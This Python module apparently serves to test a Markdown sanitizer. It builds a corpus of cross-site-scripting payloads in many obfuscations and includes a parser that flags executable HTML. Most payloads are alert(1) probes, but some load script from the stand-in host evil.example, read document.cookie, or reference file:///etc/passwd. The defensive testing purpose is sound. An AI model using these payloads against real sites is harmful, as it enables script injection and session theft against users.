"""A generated corpus of cross-site-scripting payloads for Markdown input, and a checker that
parses rendered HTML to find anything executable.

The corpus combines vectors (raw tags, event-handler attributes, Markdown links and autolinks,
reference links, namespace confusion, unclosed tags, attribute breakouts) with dangerous URLs
written in many obfuscations (case, HTML entities in decimal and hex, with and without
semicolons, percent-encoding, embedded tabs, newlines and NULs, leading spaces). ``payloads()``
returns each distinct payload once.
"""

import re
from html.parser import HTMLParser

SCRIPT_URLS = [
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "JAVASCRIPT:alert(document.cookie)",
    " javascript:alert(1)",
    "\tjavascript:alert(1)",
    "java\tscript:alert(1)",
    "java\nscript:alert(1)",
    "java\x00script:alert(1)",
    "javascript&#58;alert(1)",
    "javascript&colon;alert(1)",
    "&#106;avascript:alert(1)",
    "&#x6A;avascript:alert(1)",
    "&#x6a&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3a;alert(1)",
    "&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112"
    "&#0000116&#0000058alert(1)",
    "javascript%3Aalert(1)",
    "%6A%61%76%61%73%63%72%69%70%74:alert(1)",
    "javascript://%0Aalert(1)",
    "javascript:/*-->*/alert(1)",
    "vbscript:msgbox(1)",
    "VBScript:msgbox(1)",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "data:text/html,<script>alert(1)</script>",
    "DaTa:text/html,<script>alert(1)</script>",
    "data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+",
    "livescript:alert(1)",
    "file:///etc/passwd",
    "jar:javascript:alert(1)",
]

RAW_HTML = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<script src=data:,alert(1)>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<IMG SRC=x OnErRoR=alert(1)>",
    "<img src=\"x\" onerror=\"alert(1)\"/>",
    "<img src=x onerror=alert(1)//",
    "<img/src/onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href=\"javascript:alert(1)\"><text>x</text></a></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><set attributeName=href to=javascript:alert(1)>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph>",
    "<math href=\"javascript:alert(1)\">click</math>",
    "<math><maction actiontype=statusline xlink:href=javascript:alert(1)>x</maction></math>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
    "<object data=javascript:alert(1)>",
    "<embed src=javascript:alert(1)>",
    "<style>@import 'javascript:alert(1)';</style>",
    "<style>body{background:url(javascript:alert(1))}</style>",
    "<div style=\"background:url(javascript:alert(1))\">x</div>",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<form action=javascript:alert(1)><button>x</button></form>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<a href=\"javascript:alert(1)\">x</a>",
    "<a href=javascript:alert(1)>x",
    "<base href=javascript:alert(1)//>",
    "<meta http-equiv=refresh content=\"0;url=javascript:alert(1)\">",
    "<link rel=stylesheet href=javascript:alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<template><script>alert(1)</script></template>",
    "<!--<img src=x onerror=alert(1)>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<p title=\"x\" onmouseover=\"alert(1)\">hover</p>",
    "<x onclick=alert(1)>click",
    "<div><p>unclosed <img src=x onerror=alert(1)",
    "\"><script>alert(1)</script>",
    "'><img src=x onerror=alert(1)>",
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "<<script>alert(1)//<</script>",
    "<a href=\"https://ok.example\" onclick=\"alert(1)\">ok</a>",
    "<table background=javascript:alert(1)>",
    "<isindex type=image src=1 onerror=alert(1)>",
    "<keygen autofocus onfocus=alert(1)>",
]


def _markdown_vectors(url: str) -> list[str]:
    return [
        f"[x]({url})",
        f"[x](<{url}>)",
        f"[x]({url} \"title\")",
        f"![x]({url})",
        f"<{url}>",
        f"[x][ref]\n\n[ref]: {url}",
        f"[x]( {url} )",
        f"[**bold**]({url})",
    ]


BREAKOUTS = [
    "[x](https://ok.example\" onmouseover=\"alert(1))",
    "[x](https://ok.example' onerror='alert(1))",
    "[x](https://ok.example\"><script>alert(1)</script>)",
    "[x\"><img src=x onerror=alert(1)>](https://ok.example)",
    "[x](https://ok.example \"t\\\" onmouseover=\\\"alert(1)\")",
    "`<script>alert(1)</script>`",
    "```html\n<script>alert(1)</script>\n```",
    "    <img src=x onerror=alert(1)>",
    "> <svg onload=alert(1)>",
    "- <iframe src=javascript:alert(1)>",
    "| a |\n|---|\n| <img src=x onerror=alert(1)> |",
    "# <script>alert(1)</script>",
    "**<img src=x onerror=alert(1)>**",
    "[<svg onload=alert(1)>](https://ok.example)",
    "<https://ok.example\"onmouseover=\"alert(1)>",
    "<mailto:a@b.example?body=<script>alert(1)</script>>",
    "[x](//evil.example/%0Ajavascript:alert(1))",
    "[x](\\javascript:alert(1))",
    "[x](javascript:alert`1`)",
    "[x](javascript:window['al'+'ert'](1))",
]


def payloads() -> list[str]:
    """Every payload once, in a stable order."""
    out = []
    for url in SCRIPT_URLS:
        out.extend(_markdown_vectors(url))
        out.append(f"<a href=\"{url}\">x</a>")
        out.append(f"<img src=\"{url}\">")
    out.extend(RAW_HTML)
    out.extend(BREAKOUTS)
    # Raw HTML wrapped in Markdown contexts: lists, quotes, emphasis, tables, headings.
    for raw in RAW_HTML[:30]:
        out.append(f"> {raw}")
        out.append(f"* **{raw}**")
    seen, unique = set(), []
    for item in out:
        if item not in seen:
            seen.add(item)
            unique.append(item)
    return unique


DANGEROUS_TAGS = {"script", "iframe", "object", "embed", "style", "svg", "math", "form",
                  "base", "meta", "link", "frame", "frameset", "applet", "template", "img",
                  "video", "audio", "source", "input", "button", "textarea", "select",
                  "marquee", "body", "html", "head", "title", "isindex", "keygen", "noscript"}
URL_ATTRIBUTES = {"href", "src", "action", "formaction", "xlink:href", "background", "poster",
                  "data", "srcdoc", "lowsrc", "dynsrc", "ping", "cite", "srcset"}
SAFE_SCHEMES = {"http", "https", "mailto"}
SCHEME = re.compile(r"^([a-z][a-z0-9+.\-]*):")


def _normalise_url(value: str) -> str:
    # Browsers drop ASCII whitespace and control characters inside a URL's scheme.
    return "".join(ch for ch in value if ord(ch) > 0x20 and ch != "\x7f").lower()


def url_is_safe(value: str) -> bool:
    """An address is safe when it has no scheme (relative: what comes before a colon is not
    a valid scheme, as in ``java%09script:``) or one of http, https and mailto."""
    match = SCHEME.match(_normalise_url(value))
    return match is None or match.group(1) in SAFE_SCHEMES


class _Checker(HTMLParser):
    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.problems: list[str] = []

    def handle_starttag(self, tag, attrs):
        self._check(tag, attrs)

    def handle_startendtag(self, tag, attrs):
        self._check(tag, attrs)

    def _check(self, tag, attrs):
        if tag in DANGEROUS_TAGS:
            self.problems.append(f"<{tag}> element")
        for name, value in attrs:
            if name.startswith("on"):
                self.problems.append(f"{name} attribute on <{tag}>")
            if name == "style":
                self.problems.append(f"style attribute on <{tag}>")
            if name in URL_ATTRIBUTES and value is not None and not url_is_safe(value):
                self.problems.append(f"{name}={value!r} on <{tag}>")


def executable_parts(html: str) -> list[str]:
    """What in ``html`` could run script, found by parsing it (attribute values arrive with
    their entities decoded, as a browser sees them)."""
    checker = _Checker()
    checker.feed(html)
    checker.close()
    return checker.problems
